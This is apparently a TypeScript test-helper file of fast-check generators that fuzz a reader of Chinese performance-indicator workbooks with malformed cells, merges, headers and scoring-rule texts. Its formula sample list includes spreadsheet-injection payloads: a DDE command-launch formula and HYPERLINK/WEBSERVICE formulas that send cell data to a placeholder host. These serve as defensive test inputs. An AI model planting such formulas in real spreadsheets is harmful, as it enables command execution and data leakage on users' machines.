/**
 * fast-check generators for hostile workbooks: grids whose cells hold anything a sheet can hold
 * (any script, emoji, control characters, 100 000-character text, NaN and ±Infinity, dates, Excel
 * error values, formula-looking text), random merges (overlapping, out of range, inverted),
 * headers made of the real labels at random rows and columns, and random log sheets.
 *
 * Replaying a failure: fast-check prints `{ seed: S, path: "P" }`; run
 *   FC_SEED=S FC_PATH=P npx jest test/reliability -t "<the test's name>"
 * FC_SEED alone reruns every property with that seed. FC_RUNS scales the number of cases
 * (FC_RUNS=10 runs ten times as many).
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import type { CellRange, CellValue, Grid, WorkbookGrids } from "../../src/core/grid";
import { FIELD_LABEL, fieldOfLabel } from "../../src/core/table/headers";
import type { Field } from "../../src/core/indicator";

// ---- replay ------------------------------------------------------------------------------------

const envSeed = process.env.FC_SEED;
const envPath = process.env.FC_PATH;
const scale = Number(process.env.FC_RUNS ?? "1");

/** fc.assert parameters: the seed (and path) from the environment when given, runs scaled. */
export function fcParams(numRuns: number): fc.Parameters<unknown> {
  const p: fc.Parameters<unknown> = { numRuns: Math.max(1, Math.round(numRuns * (Number.isFinite(scale) && scale > 0 ? scale : 1))) };
  if (envSeed !== undefined && envSeed !== "") p.seed = Number(envSeed);
  if (envPath !== undefined && envPath !== "") p.path = envPath;
  return p;
}

/** Strings longer than this print as `<N chars: start…>` in counterexamples (100 000-char cells). */
const PRINT_LIMIT = 300;

function shorten(v: unknown): unknown {
  if (typeof v === "string") return v.length > PRINT_LIMIT ? `<${v.length} chars: ${v.slice(0, 40)}…>` : v;
  if (Array.isArray(v)) return v.map(shorten);
  if (v && typeof v === "object") return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, shorten(x)]));
  return v;
}

/** Give a generated value a short printout, so a failing case with a 100 000-char cell stays readable. */
export function shortPrint<T extends object>(value: T): T {
  Object.defineProperty(value, fc.toStringMethod, { value: () => fc.stringify(shorten(value)), enumerable: false });
  return value;
}

/** Cases run by the properties of this process (for the figures in docs/reliability.md). */
export const runCounter = { cases: 0 };

// ---- vocabulary ----------------------------------------------------------------------------------

/** Every header label variant the reader accepts (kept in step with src/core/table/headers.ts). */
export const HEADER_VARIANTS: Record<Field, string[]> = {
  level1: ["一级指标"],
  level2: ["二级指标"],
  name: ["三级指标", "三级指标名称"],
  operator: ["指标性质", "符号", "指标值符号", "运算符号"],
  direction: ["指标方向"],
  target: ["指标值", "年度指标值", "年初目标值", "指标值及单位", "年度目标值", "目标值", "绩效指标值", "指标目标值", "年度绩效指标值"],
  unit: ["度量单位", "计量单位", "单位"],
  attribute: ["指标属性"],
  rule: ["评（扣）分标准", "评(扣)分标准", "评分标准", "扣分标准", "评(扣)分标准及方法"],
  content: ["指标内容", "指标解释"],
  source: ["绩效指标值设定依据及数据来源", "数据来源", "指标值设定依据及数据来源"],
  weight: ["分值", "权重"],
  actual: ["实际完成值", "全年实际值", "完成值", "全年实际完成值"],
  score: ["得分"],
  remark: ["偏差原因分析及改进措施", "未完成原因分析", "偏差原因分析"],
};
for (const [field, labels] of Object.entries(HEADER_VARIANTS) as [Field, string[]][]) {
  for (const l of labels) if (fieldOfLabel(l) !== field) throw new Error(`header variant ${l} is not read as ${field} any more`);
  if (fieldOfLabel(FIELD_LABEL[field]) !== field) throw new Error(`FIELD_LABEL.${field} is not read back`);
}

export const LOG_HEADER_VARIANTS = {
  date: ["日期", "完成日期", "时间"],
  name: ["三级指标", "指标名称", "三级指标名称"],
  value: ["完成值", "实际值", "数量", "完成数量"],
  remark: ["备注", "佐证材料"],
  method: ["汇总方式"],
};

/**
 * The rule corpus's texts, read out of src/core/rules/corpus.test.ts (its `["text", {…}]` rows)
 * and published-corpus.test.ts, so new corpus entries are fuzzed too without copying them here.
 */
export const CORPUS_TEXTS: string[] = (() => {
  const src = readFileSync(path.join(__dirname, "../../src/core/rules/corpus.test.ts"), "utf8");
  const out: string[] = [];
  for (const m of src.matchAll(/^\s*\[("(?:[^"\\]|\\.)*"),\s*\{/gm)) out.push(JSON.parse(m[1]) as string);
  // The published texts too (src/core/rules/published-corpus.test.ts: `text: "…",` lines).
  const published = readFileSync(path.join(__dirname, "../../src/core/rules/published-corpus.test.ts"), "utf8");
  for (const m of published.matchAll(/^\s*text: ("(?:[^"\\]|\\.)*"),/gm)) out.push(JSON.parse(m[1]) as string);
  return [...new Set(out)];
})();

const LEVEL1 = ["产出指标", "效益指标", "满意度指标", "成本指标", "产出 指标", "效益指标\n", "其他指标"];
const LEVEL2 = ["数量指标", "质量指标", "时效指标", "成本指标", "经济效益指标", "社会效益指标", "生态效益指标", "可持续影响指标", "服务对象满意度指标", "社会公众或服务对象满意度指标", "经济成本指标", "未知指标"];
const OPERATORS = ["=", ">=", "<=", ">", "<", "≥", "≤", "＝", "＞", "＜", "＞＝", "≧", "≦", "定性", "≈", "=>", "大于"];
const TARGETS = ["98%", "≥80M", "10辆", "≤90万元", "≥100百分比", "98%以上", "合格", "不定期", "优", "良", "达标", "正确", "100", "12", "0.98", "-5", "150%", "１２", "达成年度指标", "1e309"];
const UNITS = ["期", "天", "%", "人", "次", "篇", "个", "万元", "元", "百分比", "", "件", "场", "条", "辆"];
const ATTRIBUTES = ["定量指标", "定性指标", "定量", "其他"];
const PLACEHOLDERS = ["空", "指标1", "指标2工程资金金额", "……", "...", "空 "];
const TABLE_ENDS = ["合计", "得分合计", "总分", "填报人：张三", "审核人", "单位负责人"];
const ERRORS = ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NULL!", "#NUM!", "#SPILL!", "#CALC!", "#GETTING_DATA"];
export const FORMULA_TEXTS = [
  "=SUM(A1:A3)",
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1,2)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
  "=WEBSERVICE(\"http://example.invalid\")",
  "-",
  "=",
  "@",
  "+",
  "=得分：10",
  "\t=1+1",
  "＝1+1",
];
const SCORE_LINES = ["得分：10", "得分:5", "12分，完成1期得1分\n得分：12", "得分：", "得分：NaN"];
const DATES = ["2022-03-31", "2022/3/31", "2022年3月31日", "2022-13-45", "31/03/2022", "昨天", "0000-00-00"];
const EMOJI = ["😀", "👨‍👩‍👧‍👦", "🇨🇳", "🏳️‍🌈", "👍🏽", "🧧", "𠮷", "\u{1F600}\u200d\u{1F4BB}"];
const CONTROLS = ["\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\r", "\u000b", "\f", "\u001b", "\u007f", "\u0085", "\u2028", "\u2029", "\ufeff", "\u200b", "\u200e", "\u202e", "\ud800", "\udfff", "\uffff"];
const SCRIPTS = ["绩效目标", "Ελληνικά", "Русский", "العربية", "עברית", "हिन्दी", "ภาษาไทย", "한국어", "日本語のテキスト", "ꦗꦮ", "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇", "ＡＢＣ１２３（）", "\u3000全角空格\u3000"];

/** Long texts (100 000 characters), built once. */
export const LONG_TEXTS = [
  "绩".repeat(100_000),
  "编撰网络舆情分析研判报告期数".repeat(7143).slice(0, 100_000),
  ("12分，完成1期得1分，" + "每少1期扣1分，".repeat(14_285)).slice(0, 100_000),
  "a\n".repeat(50_000),
  "9".repeat(100_000),
  "(".repeat(50_000) + "%".repeat(50_000),
];

// ---- cells -----------------------------------------------------------------------------------------

const chaosString = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: fc.constantFrom(...CONTROLS, ...EMOJI, "空", "分", "得", "扣", "%", "每", "期", "1", "，", "；"), maxLength: 30 }),
  fc.constantFrom(...SCRIPTS, ...EMOJI),
);

const numberCell = fc.oneof(
  fc.double(),
  fc.integer({ min: -1000, max: 1000 }),
  fc.constantFrom(Number.NaN, Infinity, -Infinity, -0, 0, 1e308, -1e308, 5e-324, Number.MAX_SAFE_INTEGER + 2, 0.98, 1.5, 100, 12, 44651 /* 2022-03-31 */),
);

/** Any value a cell may hold. */
export const anyCell: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 6, arbitrary: fc.constant("") },
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 6, arbitrary: chaosString },
  { weight: 5, arbitrary: numberCell },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: fc.constantFrom(...ERRORS) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULA_TEXTS) },
  { weight: 2, arbitrary: fc.constantFrom(...DATES) },
  { weight: 3, arbitrary: fc.constantFrom(...LEVEL1, ...LEVEL2, ...PLACEHOLDERS, ...TABLE_ENDS, ...SCORE_LINES) },
  { weight: 3, arbitrary: fc.constantFrom(...OPERATORS, ...TARGETS, ...UNITS, ...ATTRIBUTES) },
  { weight: 2, arbitrary: fc.constantFrom(...CORPUS_TEXTS) },
  { weight: 1, arbitrary: fc.constantFrom(...Object.values(HEADER_VARIANTS).flat(), "绩效指标", "项目绩效目标表", "全年预算数", "全年执行数", "执行率") },
);

/** A cell value plausible for a field, or anything at all. */
function fieldCell(field: Field): fc.Arbitrary<CellValue> {
  const domain: Partial<Record<Field, fc.Arbitrary<CellValue>>> = {
    level1: fc.constantFrom(...LEVEL1, ...PLACEHOLDERS),
    level2: fc.constantFrom(...LEVEL2, ...PLACEHOLDERS),
    name: fc.oneof(fc.constantFrom("编撰网络舆情分析\n研判报告期数", "培训人次", "满意度", "资金拨付及时率", "指标1"), chaosString),
    operator: fc.constantFrom(...OPERATORS),
    target: fc.oneof(fc.constantFrom(...TARGETS), numberCell),
    unit: fc.constantFrom(...UNITS),
    attribute: fc.constantFrom(...ATTRIBUTES),
    rule: fc.oneof(fc.constantFrom(...CORPUS_TEXTS), fc.constantFrom(...SCORE_LINES), chaosString),
    weight: fc.oneof(numberCell, fc.constantFrom("10", "十", "", "空")),
    actual: fc.oneof(numberCell, fc.constantFrom(...TARGETS)),
    score: numberCell,
  };
  const d = domain[field];
  return d ? fc.oneof({ weight: 4, arbitrary: d }, { weight: 1, arbitrary: anyCell }) : anyCell;
}

/** `arb` one time in `n`, else null. (fc.option's `freq` is the other way round: null one time in freq.) */
function rarely<T>(arb: fc.Arbitrary<T>, n: number): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: n - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: arb });
}

// ---- grids -----------------------------------------------------------------------------------------

const mergeArb = (rows: number, cols: number): fc.Arbitrary<CellRange> =>
  fc.oneof(
    { weight: 6, arbitrary: fc.record({ top: fc.nat(rows + 2), left: fc.nat(cols + 2), h: fc.nat(4), w: fc.nat(3) }).map(({ top, left, h, w }) => ({ top, left, bottom: top + h, right: left + w })) },
    // Out of range, inverted, huge: a host should never send these, but the reader must survive them.
    { weight: 1, arbitrary: fc.record({ top: fc.integer({ min: -3, max: rows + 50 }), left: fc.integer({ min: -3, max: cols + 50 }), bottom: fc.integer({ min: -3, max: rows + 50 }), right: fc.integer({ min: -3, max: cols + 50 }) }) },
    { weight: 1, arbitrary: fc.constant({ top: 0, left: 0, bottom: 1_048_575, right: 16_383 }) },
  );

const NUMBER_FORMATS = ["", "General", "0%", "0.00%", "yyyy-mm-dd", "yyyy/m/d", "@", "0.00", "#,##0", "[$-F800]dddd, mmmm dd, yyyy", "0.0%;[Red]-0.0%", '"得分"0'];

interface HeaderSpec {
  fields: Field[];
  labels: string[];
  decorate: number[];
  twoRow: boolean;
}

const headerSpec: fc.Arbitrary<HeaderSpec> = fc
  .record({
    extra: fc.subarray(["level1", "level2", "operator", "unit", "attribute", "rule", "content", "source", "weight", "actual", "score", "remark"] as Field[]),
    dropRequired: fc.oneof({ weight: 9, arbitrary: fc.constant(false) }, { weight: 1, arbitrary: fc.constant(true) }),
    order: fc.array(fc.nat(), { minLength: 14, maxLength: 14 }),
    variant: fc.array(fc.nat(), { minLength: 14, maxLength: 14 }),
    decorate: fc.array(fc.nat(5), { minLength: 14, maxLength: 14 }),
    twoRow: fc.boolean(),
  })
  .map(({ extra, dropRequired, order, variant, decorate, twoRow }) => {
    const fields: Field[] = dropRequired ? [...extra] : (["name", "target", ...extra] as Field[]);
    // Shuffle by the generated keys (deterministic for a seed).
    const keyed = fields.map((f, i) => ({ f, k: order[i] }));
    keyed.sort((a, b) => a.k - b.k);
    const sorted = keyed.map((x) => x.f);
    const labels = sorted.map((f, i) => {
      const vs = HEADER_VARIANTS[f];
      return vs[variant[i] % vs.length];
    });
    return { fields: sorted, labels, decorate: decorate.slice(0, sorted.length), twoRow };
  });

/** Header text the way workbooks spell it: stray spaces, line breaks, full-width brackets. */
function decorateLabel(label: string, how: number): string {
  switch (how) {
    case 1:
      return ` ${label} `;
    case 2:
      return label.length > 2 ? `${label.slice(0, 2)}\n${label.slice(2)}` : label;
    case 3:
      return label.replace(/\(/g, "（").replace(/\)/g, "）");
    case 4:
      return label.split("").join(" ");
    default:
      return label;
  }
}

export interface GridCase {
  grid: Grid;
  /** Rows and columns of the values array. */
  rows: number;
  cols: number;
}

/** A target sheet: chaos around a header of real labels, rows below it plausible or not. */
export const targetGrid: fc.Arbitrary<GridCase> = fc
  .record({
    sheet: fc.oneof(fc.constant("项目绩效目标表"), fc.constant("Sheet1"), fc.string({ maxLength: 31 })),
    origin: fc.record({ row: fc.oneof(fc.constant(0), fc.nat(60)), col: fc.oneof(fc.constant(0), fc.nat(30)) }),
    header: fc.option(headerSpec, { freq: 6 }),
    headerRow: fc.nat(12),
    headerCol: fc.nat(4),
    spacers: fc.array(fc.nat(5), { minLength: 14, maxLength: 14 }),
    above: fc.array(fc.array(anyCell, { maxLength: 8 }), { maxLength: 8 }),
    body: fc.array(
      fc.record({
        pick: fc.array(fc.nat(9), { minLength: 14, maxLength: 14 }),
        cells: fc.array(anyCell, { minLength: 6, maxLength: 6 }),
        seed: fc.array(fc.nat(7), { minLength: 6, maxLength: 6 }),
      }),
      { maxLength: 20 },
    ),
    seeds: fc.array(fc.oneof(...(["level1", "level2", "name", "operator", "target", "unit", "attribute", "rule", "weight", "actual", "score"] as Field[]).map((f) => fc.array(fieldCell(f), { minLength: 8, maxLength: 8 }).map((v) => [f, v] as const))), { minLength: 0, maxLength: 11 }),
    below: fc.array(fc.array(anyCell, { maxLength: 10 }), { maxLength: 4 }),
    mergeCount: fc.nat(6),
    merges: fc.array(mergeArb(40, 20), { maxLength: 6 }),
    // 100 000-character cells cost tens of milliseconds a pass: one case in ~25 has one.
    long: rarely(fc.record({ which: fc.nat(LONG_TEXTS.length - 1), r: fc.nat(40), c: fc.nat(20) }), 25),
    text: fc.option(fc.array(fc.array(fc.oneof(fc.constant(""), chaosString, fc.constantFrom("98%", "2022-03-31", "#N/A", "1,234")), { maxLength: 12 }), { maxLength: 30 }), { freq: 3 }),
    formats: fc.option(fc.array(fc.array(fc.constantFrom(...NUMBER_FORMATS), { maxLength: 12 }), { maxLength: 30 }), { freq: 3 }),
    hidden: fc.array(fc.integer({ min: -2, max: 45 }), { maxLength: 4 }),
    ragged: fc.boolean(),
  })
  .map((s) => {
    const rows: CellValue[][] = [];
    for (const r of s.above) rows.push([...r]);
    let headerRow = s.headerRow;
    let fieldCols: Map<Field, number> = new Map();
    if (s.header) {
      headerRow = Math.min(s.headerRow, rows.length);
      while (rows.length < headerRow) rows.push([]);
      const spec = s.header;
      const line: CellValue[] = new Array(s.headerCol).fill("");
      spec.fields.forEach((f, i) => {
        for (let k = 0; k < (s.spacers[i] === 0 ? 1 : 0); k++) line.push("");
        fieldCols.set(f, line.length);
        line.push(decorateLabel(spec.labels[i], spec.decorate[i] ?? 0));
      });
      if (spec.twoRow) {
        const top: CellValue[] = new Array(line.length).fill("");
        top[s.headerCol] = "绩效指标";
        rows.splice(headerRow, 0, top);
        headerRow++;
      }
      rows.splice(headerRow, 0, line);
      rows.length = headerRow + 1;
      // The body: per cell, a plausible value for its column, the field's seed values, or chaos.
      const seeds = new Map(s.seeds);
      for (const { pick, cells, seed } of s.body) {
        const out: CellValue[] = new Array(line.length).fill("");
        for (const [f, c] of fieldCols) {
          const p = pick[c % 14];
          const seedVals = seeds.get(f);
          if (p <= 5 && seedVals) out[c] = seedVals[seed[c % 6] % seedVals.length];
          else if (p <= 7) out[c] = cells[c % 6];
          else out[c] = "";
        }
        // Now and then a cell right of the header, or in a spacer column.
        if (pick[13] === 9) out.push(cells[5]);
        if (pick[12] === 9 && s.headerCol > 0) out[0] = cells[4];
        rows.push(out);
      }
    } else fieldCols = new Map();
    for (const r of s.below) rows.push([...r]);
    if (s.long && rows.length) {
      const r = s.long.r % rows.length;
      const row = rows[r];
      const c = s.long.c % Math.max(1, row.length + 1);
      while (row.length <= c) row.push("");
      row[c] = LONG_TEXTS[s.long.which];
    }
    // Rectangular unless the case asks for ragged rows (hosts send rectangles; the core must not care).
    let cols = 0;
    for (const r of rows) cols = Math.max(cols, r.length);
    if (!s.ragged) for (const r of rows) while (r.length < cols) r.push("");
    const merges = s.merges.slice(0, s.mergeCount);
    const grid: Grid = { sheet: s.sheet, origin: s.origin, values: rows, merges };
    if (s.text) grid.text = s.text;
    if (s.formats) grid.numberFormats = s.formats;
    if (s.hidden.length) grid.hiddenRows = s.hidden;
    return shortPrint({ grid, rows: rows.length, cols });
  });

/** A log sheet: a header of real log labels, rows naming indicators of the target or not. */
export const logGrid = (names: string[]): fc.Arbitrary<GridCase> =>
  fc
    .record({
      sheet: fc.constantFrom("完成情况台账", "台账", "log", "Sheet2", "工作记录"),
      origin: fc.record({ row: fc.nat(5), col: fc.nat(5) }),
      headerRow: fc.nat(3),
      fields: fc.subarray(["date", "name", "value", "remark", "method"] as const, { minLength: 1 }),
      variant: fc.nat(3),
      entries: fc.array(
        fc.record({
          name: fc.oneof({ weight: 4, arbitrary: fc.nat(Math.max(0, names.length - 1)).map((i) => names[i] ?? "") }, { weight: 1, arbitrary: anyCell }),
          date: fc.oneof(fc.constantFrom(...DATES), fc.integer({ min: -10, max: 3_000_000 }), anyCell),
          value: fc.oneof(numberCell, fc.constantFrom("", "1", "合格", "98%", "优"), anyCell),
          remark: anyCell,
          method: fc.oneof(fc.constantFrom("求和", "计数", "最新", "平均", "最大", "最小", "", "其他"), anyCell),
        }),
        { maxLength: 30 },
      ),
      merges: fc.array(mergeArb(30, 6), { maxLength: 3 }),
    })
    .map((s) => {
      const rows: CellValue[][] = [];
      for (let i = 0; i < s.headerRow; i++) rows.push(new Array(s.fields.length).fill(""));
      rows.push(s.fields.map((f) => LOG_HEADER_VARIANTS[f][s.variant % LOG_HEADER_VARIANTS[f].length]));
      for (const e of s.entries) rows.push(s.fields.map((f) => e[f] as CellValue));
      const grid: Grid = { sheet: s.sheet, origin: s.origin, values: rows, merges: s.merges };
      return { grid, rows: rows.length, cols: s.fields.length };
    });

export interface WorkbookCase {
  wb: WorkbookGrids;
  cases: GridCase[];
}

/** A workbook: a target sheet, maybe a log sheet (naming the target's indicators), maybe noise. */
export const workbookCase: fc.Arbitrary<WorkbookCase> = targetGrid.chain((target) => {
  const names = target.grid.values.flatMap((r) => r.filter((v): v is string => typeof v === "string" && v !== "" && v.length < 200)).slice(0, 40);
  return fc
    .record({
      log: fc.option(logGrid(names.length ? names : ["指标"]), { freq: 3 }),
      noise: rarely(targetGrid, 4),
      generated: fc.boolean(),
    })
    .map(({ log, noise, generated }) => {
      const cases: GridCase[] = [target];
      if (log) cases.push(log);
      if (noise) cases.push({ ...noise, grid: { ...noise.grid, sheet: noise.grid.sheet === target.grid.sheet ? `${noise.grid.sheet}_2` : noise.grid.sheet } });
      if (generated) cases.push({ grid: { sheet: "绩效自评表", origin: { row: 0, col: 0 }, values: [["项目支出绩效自评表"], ["偏差原因分析及改进措施", "已写的原因"]], merges: [] }, rows: 2, cols: 2 });
      // Sheet names are unique in a workbook.
      const seen = new Set<string>();
      const unique = cases.filter((c) => (seen.has(c.grid.sheet) ? false : (seen.add(c.grid.sheet), true)));
      return shortPrint({ wb: { sheets: unique.map((c) => c.grid) }, cases: unique });
    });
});

// ---- rule texts ------------------------------------------------------------------------------------

const RULE_PIECES = ["分", "得", "扣", "每", "完成", "期", "%", "百分点", "，", "；", ";", "满分", "扣完为止", "扣满", "为止", "以上", "以下", "-", "～", "≥", "≤", "<", ">", "(含)", "按完成比例得分", "×", "/", "分值", "不得分", "得满分", "优", "良", "合格", ":", "十", "二十", "一百", "半", "点五", "万", "亿", "1e9", "99999999999999999999", "0.0000001", "NaN", "Infinity"];

/** Corpus texts mutated: characters deleted, inserted, replaced, pieces spliced, numbers blown up. */
export const mutatedRule: fc.Arbitrary<string> = fc
  .record({
    base: fc.constantFrom(...CORPUS_TEXTS),
    other: fc.constantFrom(...CORPUS_TEXTS),
    ops: fc.array(
      fc.record({
        kind: fc.constantFrom("delete", "insert", "replace", "splice", "number", "repeat", "piece"),
        at: fc.nat(),
        len: fc.nat(6),
        text: fc.oneof(chaosString, fc.constantFrom(...RULE_PIECES)),
        num: fc.oneof(fc.constantFrom("0", "-1", "1e308", "1e400", "999999999999", "0.000001", "NaN", "十万", "一亿", "九千九百九十九"), fc.double().map(String), fc.nat(100000).map(String)),
      }),
      { minLength: 1, maxLength: 5 },
    ),
  })
  .map(({ base, other, ops }) => {
    let t = base;
    for (const op of ops) {
      const at = t.length ? op.at % (t.length + 1) : 0;
      switch (op.kind) {
        case "delete":
          t = t.slice(0, at) + t.slice(at + op.len);
          break;
        case "insert":
        case "piece":
          t = t.slice(0, at) + op.text + t.slice(at);
          break;
        case "replace":
          t = t.slice(0, at) + op.text + t.slice(at + op.len);
          break;
        case "splice":
          t = t.slice(0, at) + other.slice(op.at % (other.length + 1));
          break;
        case "number":
          t = t.replace(/\d+(\.\d+)?/, op.num);
          break;
        case "repeat":
          t = t.repeat(1 + (op.len % 4));
          break;
      }
    }
    return t;
  });

/** Any rule text: mutated corpus, pieces strung together, raw chaos, or a long text. */
export const anyRuleText: fc.Arbitrary<string> = fc.oneof(
  { weight: 24, arbitrary: mutatedRule },
  { weight: 12, arbitrary: fc.array(fc.constantFrom(...RULE_PIECES, "1", "5", "10", "90", "12", "0.5"), { maxLength: 25 }).map((a) => a.join("")) },
  { weight: 8, arbitrary: chaosString },
  { weight: 1, arbitrary: fc.constantFrom(...LONG_TEXTS) },
  { weight: 4, arbitrary: fc.constantFrom(...CORPUS_TEXTS) },
);

export { numberCell, chaosString, TARGETS, OPERATORS, UNITS };
